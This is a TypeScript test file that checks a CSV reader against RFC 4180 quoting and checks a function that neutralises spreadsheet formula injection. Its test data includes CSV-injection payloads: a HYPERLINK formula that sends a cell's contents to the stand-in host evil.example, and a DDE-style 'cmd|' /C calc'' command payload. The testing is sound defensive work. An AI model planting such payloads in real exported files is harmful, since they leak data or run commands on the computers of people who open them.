import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvText, readCsv, spreadsheetSafe } from "./csv.server";

// Expected cells follow RFC 4180 §2 (quotes around a field, "" for a quote, line breaks and
// separators inside quotes); the line numbers are counted by hand.
describe("readCsv", () => {
  it("reads RFC 4180 quoting, with each record's first line and its own text", () => {
    const text = '\uFEFF# a comment\nname,ra,dec\n\n"Field, north",10,"say ""hi"""\n"two\nlines",1,2\nplain , 3 ,4';
    const read = readCsv(text);
    if (!("header" in read)) throw new Error(JSON.stringify(read));
    expect(read.header).toEqual({ line: 2, text: "name,ra,dec", cells: ["name", "ra", "dec"] });
    expect(read.rows).toEqual([
      { line: 4, text: '"Field, north",10,"say ""hi"""', cells: ["Field, north", "10", 'say "hi"'] },
      { line: 5, text: '"two\nlines",1,2', cells: ["two\nlines", "1", "2"] },
      { line: 7, text: "plain , 3 ,4", cells: ["plain", "3", "4"] },
    ]);
  });

  it("takes the separator from the header and keeps a # inside a field", () => {
    const read = readCsv("name;ra;dec\nA #1;10;11\r\nB;12;13");
    expect("header" in read && read.rows.map((r) => r.cells)).toEqual([["A #1", "10", "11"], ["B", "12", "13"]]);
    const tabs = readCsv("name\tra\tdec\nC\t1\t2");
    expect("header" in tabs && tabs.rows[0].cells).toEqual(["C", "1", "2"]);
  });

  it("says so when a quote is never closed, and when there is nothing", () => {
    const read = readCsv('name,ra,dec\n"Open,10,10\nNext,1,2');
    expect("error" in read && read.error).toMatch(/never closed/);
    expect(readCsv("\n# only a comment\n")).toEqual({ empty: true });
  });
});

// The rule (see csv.server.ts): a text cell starting with = + - @, tab or carriage return (OWASP's
// "CSV Injection" page, from memory), NUL (OWASP ASVS 5.0 requirement 1.2.10), or the full-width
// ＝ ＋ － ＠ (csv-stringify's escape_formulas list) gets a leading '; a plain decimal number does not.
describe("spreadsheetSafe and csvText", () => {
  it("marks a text cell that starts like a formula, ASCII or full-width, or with a tab, CR or NUL", () => {
    const risky = ["=1+2", "+31 cluster", "-2 stars", "@SUM(A1)", "\t=1", "\r=1", "\0=1", "＝1+2", "＋1", "－1+cmd", "＠SUM(A1)", "-", "--1", "-1e5", "＝5"];
    for (const cell of risky) expect(spreadsheetSafe(cell), JSON.stringify(cell)).toBe(`'${cell}`);
  });

  it("leaves ordinary text, numbers and empty cells as they are", () => {
    for (const cell of ["Visiting PI", "0.5 h", "a=b", "x-ray", " =1", "", "'=1", "-0.512", "-3", "12.50", "0"]) expect(spreadsheetSafe(cell), JSON.stringify(cell)).toBe(cell);
    for (const cell of [-0.5, 7, null, undefined, true]) expect(spreadsheetSafe(cell)).toBe(cell);
  });

  it("writes RFC 4180 CSV with every text cell marked, which reads back to the marked text", () => {
    const csv = csvText([
      ["title", "z", "n"],
      ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-0.512", -2],
      ["＠SUM(1+1)*cmd|' /C calc'!A0", "0.25", 3],
    ]);
    expect(parse(csv)).toEqual([
      ["title", "z", "n"],
      [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "-0.512", "-2"],
      ["'＠SUM(1+1)*cmd|' /C calc'!A0", "0.25", "3"],
    ]);
    expect(csv.split("\n")[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-0.512,-2`);
  });
});
